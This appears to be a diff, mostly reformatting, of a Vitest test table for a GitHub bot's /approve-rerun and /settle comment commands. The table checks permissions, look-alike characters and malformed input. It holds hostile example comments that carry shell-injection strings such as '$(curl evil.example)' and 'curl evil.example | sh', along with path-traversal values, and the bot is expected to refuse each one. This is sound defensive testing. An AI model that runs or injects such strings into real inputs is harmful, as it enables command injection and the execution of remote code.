@@ -1,15 +1,15 @@
 // Hostile and odd comments, each with the outcome it must get. Each row runs in a world of its own: a held
 // `deploy` node in run fix/issue-1 on acme/widgets, driven through Probot's `receive` with a real payload.
 import { afterAll, describe, expect, it } from 'vitest';
-import { GRAPH_TEXT } from './world.js';
 import {
   type CommentSpec,
   commentEvent,
   GRAPH_PATH,
+  GRAPH_TEXT,
   observe,
   PEOPLE,
-  receive,
   type RunSeed,
+  receive,
   startWorld,
   type World,
 } from './world.js';
@@ -34,21 +34,86 @@ interface Row {
 const A = '/approve-rerun deploy';
 const rows: Row[] = [
   // Who may approve.
-  { name: 'a writer (control)', comment: { body: A, login: PEOPLE.writer }, expect: 'done', reply: /approvals 1 of 1/, approvals: 1, dispatches: 1 },
-  { name: 'a login listed in approvals.approvers (control)', comment: { body: A, login: PEOPLE.listed }, expect: 'done', approvals: 1 },
-  { name: 'an active member of a listed team (control)', comment: { body: A, login: PEOPLE.teamActive }, expect: 'done', approvals: 1 },
-  { name: 'a stranger on a private repository', world: { private: true }, comment: { body: A, login: PEOPLE.stranger }, expect: 'refused', reply: /@mallory has no permission; settling needs write or membership of acme-org\/releasers/ },
-  { name: 'a stranger on a public repository (read)', comment: { body: A, login: PEOPLE.stranger }, expect: 'refused', reply: /@mallory has read permission; settling needs write/ },
-  { name: 'a read-only collaborator', comment: { body: A, login: PEOPLE.reader }, expect: 'refused', reply: /@rita has read permission/ },
-  { name: 'a triage collaborator', comment: { body: A, login: PEOPLE.triager }, expect: 'refused', reply: /@tina has triage permission/ },
-  { name: 'a listed team member whose membership is pending', comment: { body: A, login: PEOPLE.teamPending }, expect: 'refused', reply: /@pat has read permission/ },
-  { name: 'a reader ending the run', comment: { body: '/fail-run I do not like it', login: PEOPLE.reader }, expect: 'refused', reply: /has read permission/ },
+  {
+    name: 'a writer (control)',
+    comment: { body: A, login: PEOPLE.writer },
+    expect: 'done',
+    reply: /approvals 1 of 1/,
+    approvals: 1,
+    dispatches: 1,
+  },
+  {
+    name: 'a login listed in approvals.approvers (control)',
+    comment: { body: A, login: PEOPLE.listed },
+    expect: 'done',
+    approvals: 1,
+  },
+  {
+    name: 'an active member of a listed team (control)',
+    comment: { body: A, login: PEOPLE.teamActive },
+    expect: 'done',
+    approvals: 1,
+  },
+  {
+    name: 'a stranger on a private repository',
+    world: { private: true },
+    comment: { body: A, login: PEOPLE.stranger },
+    expect: 'refused',
+    reply: /@mallory has no permission; settling needs write or membership of acme-org\/releasers/,
+  },
+  {
+    name: 'a stranger on a public repository (read)',
+    comment: { body: A, login: PEOPLE.stranger },
+    expect: 'refused',
+    reply: /@mallory has read permission; settling needs write/,
+  },
+  {
+    name: 'a read-only collaborator',
+    comment: { body: A, login: PEOPLE.reader },
+    expect: 'refused',
+    reply: /@rita has read permission/,
+  },
+  {
+    name: 'a triage collaborator',
+    comment: { body: A, login: PEOPLE.triager },
+    expect: 'refused',
+    reply: /@tina has triage permission/,
+  },
+  {
+    name: 'a listed team member whose membership is pending',
+    comment: { body: A, login: PEOPLE.teamPending },
+    expect: 'refused',
+    reply: /@pat has read permission/,
+  },
+  {
+    name: 'a reader ending the run',
+    comment: { body: '/fail-run I do not like it', login: PEOPLE.reader },
+    expect: 'refused',
+    reply: /has read permission/,
+  },
   { name: 'a bot (type Bot)', comment: { body: A, login: 'renovate[bot]' }, expect: 'ignored' },
-  { name: 'a bot by its login only (type User)', comment: { body: A, login: 'evil[bot]', type: 'User' }, expect: 'ignored' },
-  { name: 'an account typed Bot without [bot]', comment: { body: A, login: 'ci-robot', type: 'Bot' }, expect: 'ignored' },
+  {
+    name: 'a bot by its login only (type User)',
+    comment: { body: A, login: 'evil[bot]', type: 'User' },
+    expect: 'ignored',
+  },
+  {
+    name: 'an account typed Bot without [bot]',
+    comment: { body: A, login: 'ci-robot', type: 'Bot' },
+    expect: 'ignored',
+  },
   // Only new comments.
-  { name: 'an edited comment that adds the command', comment: { body: A, action: 'edited', from: 'lgtm' }, expect: 'refused', reply: /an edited comment is never read as a command/ },
-  { name: 'an edited comment that already held the command', comment: { body: `${A}\n\nthanks`, action: 'edited', from: A }, expect: 'ignored' },
+  {
+    name: 'an edited comment that adds the command',
+    comment: { body: A, action: 'edited', from: 'lgtm' },
+    expect: 'refused',
+    reply: /an edited comment is never read as a command/,
+  },
+  {
+    name: 'an edited comment that already held the command',
+    comment: { body: `${A}\n\nthanks`, action: 'edited', from: A },
+    expect: 'ignored',
+  },
   { name: 'a deleted comment', comment: { body: A, action: 'deleted' }, expect: 'ignored' },
   // Not a command: code, quotes, hidden text.
   { name: 'in a ``` code block', comment: { body: `see:\n\`\`\`\n${A}\n\`\`\`` }, expect: 'ignored' },
@@ -60,34 +125,136 @@ const rows: Row[] = [
   { name: 'indented four spaces (a code block)', comment: { body: `    ${A}` }, expect: 'ignored' },
   { name: 'after a tab', comment: { body: `\t${A}` }, expect: 'ignored' },
   { name: 'in the middle of a line', comment: { body: `please ${A}` }, expect: 'ignored' },
-  { name: 'a route command (/interlock fix), not ours', comment: { body: '/interlock fix' }, expect: 'ignored' },
+  {
+    name: 'a route command (/interlock fix), not ours',
+    comment: { body: '/interlock fix' },
+    expect: 'ignored',
+  },
   // Look-alikes.
   { name: 'a fullwidth slash (U+FF0F)', comment: { body: '／approve-rerun deploy' }, expect: 'ignored' },
   { name: 'a division slash (U+2215)', comment: { body: '∕approve-rerun deploy' }, expect: 'ignored' },
   { name: 'a Cyrillic а in the command', comment: { body: '/\u0430pprove-rerun deploy' }, expect: 'ignored' },
   { name: 'an upper-case command', comment: { body: '/APPROVE-RERUN deploy' }, expect: 'ignored' },
-  { name: 'a no-break space after the command', comment: { body: '/approve-rerun\u00a0deploy' }, expect: 'ignored' },
-  { name: 'a zero-width space before the slash', comment: { body: '\u200b/approve-rerun deploy' }, expect: 'ignored' },
-  { name: 'a command glued to a longer word', comment: { body: '/approve-rerunning deploy' }, expect: 'ignored' },
-  { name: 'a Cyrillic е in the node name', comment: { body: '/approve-rerun d\u0435ploy' }, expect: 'refused', reply: /`d\u0435ploy` is not a node name/ },
+  {
+    name: 'a no-break space after the command',
+    comment: { body: '/approve-rerun\u00a0deploy' },
+    expect: 'ignored',
+  },
+  {
+    name: 'a zero-width space before the slash',
+    comment: { body: '\u200b/approve-rerun deploy' },
+    expect: 'ignored',
+  },
+  {
+    name: 'a command glued to a longer word',
+    comment: { body: '/approve-rerunning deploy' },
+    expect: 'ignored',
+  },
+  {
+    name: 'a Cyrillic е in the node name',
+    comment: { body: '/approve-rerun d\u0435ploy' },
+    expect: 'refused',
+    reply: /`d\u0435ploy` is not a node name/,
+  },
   // Shell metacharacters and path traversal.
-  { name: 'shell: $(…) as the node', comment: { body: '/approve-rerun $(curl evil.example)' }, expect: 'refused', reply: /`\$\(curl` is not a node name/ },
-  { name: 'shell: ; in the node', comment: { body: '/approve-rerun deploy;reboot' }, expect: 'refused', reply: /`deploy;reboot` is not a node name/ },
-  { name: 'shell: backticks in the node', comment: { body: '/approve-rerun `id`' }, expect: 'refused', reply: /`\?id\?` is not a node name/ },
-  { name: 'shell: | in the run id', comment: { body: '/approve-rerun deploy fix/issue-1|sh' }, expect: 'refused', reply: /is not a run id/ },
-  { name: 'shell: a command and more words', comment: { body: '/approve-rerun deploy && curl evil.example | sh' }, expect: 'refused', reply: /too many words/ },
-  { name: 'path traversal in the node', comment: { body: '/approve-rerun ../../.github/workflows/x' }, expect: 'refused', reply: /is not a node name/ },
-  { name: 'path traversal as the run id', comment: { body: '/approve-rerun deploy ../../secrets' }, expect: 'refused', reply: /is not a run id .*no "\.\."/ },
-  { name: 'path traversal inside the run id', comment: { body: '/approve-rerun deploy fix/../issue-1' }, expect: 'refused', reply: /is not a run id/ },
-  { name: 'a node name of 65 characters', comment: { body: `/approve-rerun ${'d'.repeat(65)}` }, expect: 'refused', reply: /is not a node name/ },
+  {
+    name: 'shell: $(…) as the node',
+    comment: { body: '/approve-rerun $(curl evil.example)' },
+    expect: 'refused',
+    reply: /`\$\(curl` is not a node name/,
+  },
+  {
+    name: 'shell: ; in the node',
+    comment: { body: '/approve-rerun deploy;reboot' },
+    expect: 'refused',
+    reply: /`deploy;reboot` is not a node name/,
+  },
+  {
+    name: 'shell: backticks in the node',
+    comment: { body: '/approve-rerun `id`' },
+    expect: 'refused',
+    reply: /`\?id\?` is not a node name/,
+  },
+  {
+    name: 'shell: | in the run id',
+    comment: { body: '/approve-rerun deploy fix/issue-1|sh' },
+    expect: 'refused',
+    reply: /is not a run id/,
+  },
+  {
+    name: 'shell: a command and more words',
+    comment: { body: '/approve-rerun deploy && curl evil.example | sh' },
+    expect: 'refused',
+    reply: /too many words/,
+  },
+  {
+    name: 'path traversal in the node',
+    comment: { body: '/approve-rerun ../../.github/workflows/x' },
+    expect: 'refused',
+    reply: /is not a node name/,
+  },
+  {
+    name: 'path traversal as the run id',
+    comment: { body: '/approve-rerun deploy ../../secrets' },
+    expect: 'refused',
+    reply: /is not a run id .*no "\.\."/,
+  },
+  {
+    name: 'path traversal inside the run id',
+    comment: { body: '/approve-rerun deploy fix/../issue-1' },
+    expect: 'refused',
+    reply: /is not a run id/,
+  },
+  {
+    name: 'a node name of 65 characters',
+    comment: { body: `/approve-rerun ${'d'.repeat(65)}` },
+    expect: 'refused',
+    reply: /is not a node name/,
+  },
   // Wrong node, wrong run, wrong time.
-  { name: 'an unknown node', comment: { body: '/approve-rerun deplyo' }, expect: 'refused', reply: /"deplyo" is not a node of fix \(did you mean "deploy"\?\)/ },
-  { name: 'a node that is not held (waiting)', comment: { body: '/approve-rerun notify' }, expect: 'refused', reply: /node "notify" is pending, not held or escalated/ },
-  { name: 'a node that is completed', comment: { body: '/settle plan done twice' }, expect: 'refused', reply: /node "plan" is completed, not held or escalated/ },
-  { name: 'a run that has ended', seed: { shape: 'failed' }, comment: { body: A }, expect: 'refused', reply: /the run has already ended \(RunFailed: abandoned\)/ },
-  { name: 'a run id that does not exist', comment: { body: '/approve-rerun deploy fix/issue-9' }, expect: 'refused', reply: /there is no run `fix\/issue-9` on issue #1/ },
-  { name: 'a comment on another issue (no run there)', comment: { body: A, issue: 2 }, expect: 'refused', reply: /there is no interlock run on issue #2/ },
-  { name: "a comment on another issue naming this issue's run", comment: { body: `${A} fix/issue-1`, issue: 2 }, expect: 'refused', reply: /run `fix\/issue-1` is about issue #1, not issue #2/ },
+  {
+    name: 'an unknown node',
+    comment: { body: '/approve-rerun deplyo' },
+    expect: 'refused',
+    reply: /"deplyo" is not a node of fix \(did you mean "deploy"\?\)/,
+  },
+  {
+    name: 'a node that is not held (waiting)',
+    comment: { body: '/approve-rerun notify' },
+    expect: 'refused',
+    reply: /node "notify" is pending, not held or escalated/,
+  },
+  {
+    name: 'a node that is completed',
+    comment: { body: '/settle plan done twice' },
+    expect: 'refused',
+    reply: /node "plan" is completed, not held or escalated/,
+  },
+  {
+    name: 'a run that has ended',
+    seed: { shape: 'failed' },
+    comment: { body: A },
+    expect: 'refused',
+    reply: /the run has already ended \(RunFailed: abandoned\)/,
+  },
+  {
+    name: 'a run id that does not exist',
+    comment: { body: '/approve-rerun deploy fix/issue-9' },
+    expect: 'refused',
+    reply: /there is no run `fix\/issue-9` on issue #1/,
+  },
+  {
+    name: 'a comment on another issue (no run there)',
+    comment: { body: A, issue: 2 },
+    expect: 'refused',
+    reply: /there is no interlock run on issue #2/,
+  },
+  {
+    name: "a comment on another issue naming this issue's run",
+    comment: { body: `${A} fix/issue-1`, issue: 2 },
+    expect: 'refused',
+    reply: /run `fix\/issue-1` is about issue #1, not issue #2/,
+  },
   {
     name: 'an approval after the graph changed',
     before: async (w) => {
@@ -99,16 +266,66 @@ const rows: Row[] = [
     reply: /the graph `\.interlock\/fix\.yml` changed since run `fix\/issue-1` started/,
   },
   // Shape of the comment.
-  { name: 'two commands in one comment', comment: { body: `${A}\n/fail-run never mind` }, expect: 'refused', reply: /one command per comment: found `\/approve-rerun` \(line 1\), `\/fail-run` \(line 2\)/ },
-  { name: 'a command and a status request', comment: { body: `/interlock status\n\n${A}` }, expect: 'refused', reply: /one command per comment/ },
-  { name: 'a comment of 65,537 characters with a command', comment: { body: `${A}\n${'x'.repeat(65_536 - A.length)}` }, expect: 'refused', reply: /65537 characters long, over 65536/ },
-  { name: 'a comment of 70,000 characters without a command', comment: { body: 'y'.repeat(70_000) }, expect: 'ignored' },
-  { name: 'the command without a node', comment: { body: '/approve-rerun' }, expect: 'refused', reply: /name the node; usage: `\/approve-rerun <node> \[run-id\]`/ },
-  { name: '/settle without a note', comment: { body: '/settle deploy' }, expect: 'refused', reply: /say what you checked/ },
-  { name: '/fail-run without a reason', comment: { body: '/fail-run' }, expect: 'refused', reply: /give the reason/ },
-  { name: 'a trailing word taken as a run id', comment: { body: `${A} please` }, expect: 'refused', reply: /there is no run `please`/ },
-  { name: 'CRLF line endings around the command (control)', comment: { body: `thanks\r\n${A}\r\n` }, expect: 'done', approvals: 1 },
-  { name: 'an @mention in a note is not echoed as a mention', comment: { body: '/settle deploy @everyone it is deployed' }, expect: 'done', reply: /> @\u200beveryone it is deployed/, dispatches: 1 },
+  {
+    name: 'two commands in one comment',
+    comment: { body: `${A}\n/fail-run never mind` },
+    expect: 'refused',
+    reply: /one command per comment: found `\/approve-rerun` \(line 1\), `\/fail-run` \(line 2\)/,
+  },
+  {
+    name: 'a command and a status request',
+    comment: { body: `/interlock status\n\n${A}` },
+    expect: 'refused',
+    reply: /one command per comment/,
+  },
+  {
+    name: 'a comment of 65,537 characters with a command',
+    comment: { body: `${A}\n${'x'.repeat(65_536 - A.length)}` },
+    expect: 'refused',
+    reply: /65537 characters long, over 65536/,
+  },
+  {
+    name: 'a comment of 70,000 characters without a command',
+    comment: { body: 'y'.repeat(70_000) },
+    expect: 'ignored',
+  },
+  {
+    name: 'the command without a node',
+    comment: { body: '/approve-rerun' },
+    expect: 'refused',
+    reply: /name the node; usage: `\/approve-rerun <node> \[run-id\]`/,
+  },
+  {
+    name: '/settle without a note',
+    comment: { body: '/settle deploy' },
+    expect: 'refused',
+    reply: /say what you checked/,
+  },
+  {
+    name: '/fail-run without a reason',
+    comment: { body: '/fail-run' },
+    expect: 'refused',
+    reply: /give the reason/,
+  },
+  {
+    name: 'a trailing word taken as a run id',
+    comment: { body: `${A} please` },
+    expect: 'refused',
+    reply: /there is no run `please`/,
+  },
+  {
+    name: 'CRLF line endings around the command (control)',
+    comment: { body: `thanks\r\n${A}\r\n` },
+    expect: 'done',
+    approvals: 1,
+  },
+  {
+    name: 'an @mention in a note is not echoed as a mention',
+    comment: { body: '/settle deploy @everyone it is deployed' },
+    expect: 'done',
+    reply: /> @\u200beveryone it is deployed/,
+    dispatches: 1,
+  },
   // Repetition.
   {
     name: 'two approvals from the same person when two are required',
@@ -159,7 +376,9 @@ describe('hostile and odd comments', () => {
         const fresh = reuse === undefined;
         const approvalsExpected = row.approvals ?? 0;
         expect(seen.approvals).toHaveLength(approvalsExpected);
-        expect(seen.dispatches).toHaveLength(row.dispatches ?? (row.expect === 'done' ? approvalsExpected : 0));
+        expect(seen.dispatches).toHaveLength(
+          row.dispatches ?? (row.expect === 'done' ? approvalsExpected : 0),
+        );
         if (row.expect === 'ignored') {
           expect(replies).toEqual([]);
           if (fresh) expect(seen.reactions).toEqual([]);
@@ -183,5 +402,6 @@ describe('hostile and odd comments', () => {
 });
 
 afterAll(() => {
-  if (process.env.INTERLOCK_PRINT_TABLE) console.log(['| comment | outcome | reply |', '| --- | --- | --- |', ...table].join('\n'));
+  if (process.env.INTERLOCK_PRINT_TABLE)
+    console.log(['| comment | outcome | reply |', '| --- | --- | --- |', ...table].join('\n'));
 });
